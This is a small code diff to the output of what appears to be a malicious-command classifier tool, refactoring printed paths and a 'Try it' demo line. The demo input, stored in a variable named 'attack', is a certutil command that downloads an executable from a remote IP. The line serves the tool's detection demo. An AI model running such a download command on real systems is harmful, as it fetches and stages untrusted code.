@@ -23,10 +23,9 @@ def run(args: argparse.Namespace) -> int:
     print(arms_table(results))
     print()
     print(headline(results))
-    print(
-        f"\nLook at        {out / 'report.html'}\nNumbers        {out / 'results.json'}\nModel          {out / 'model'}\n"
-        f"Try it         echo 'certutil -urlcache -f http://192.0.2.7/a.exe a.exe' | cmdclf score --model {out / 'model'}"
-    )
+    attack = "certutil -urlcache -f http://192.0.2.7/a.exe a.exe"
+    print(f"\nLook at   {out / 'report.html'}\nNumbers   {out / 'results.json'}\nModel     {out / 'model'}")
+    print(f"Try it    echo '{attack}' | cmdclf score --model {out / 'model'}")
     return 0
 
 
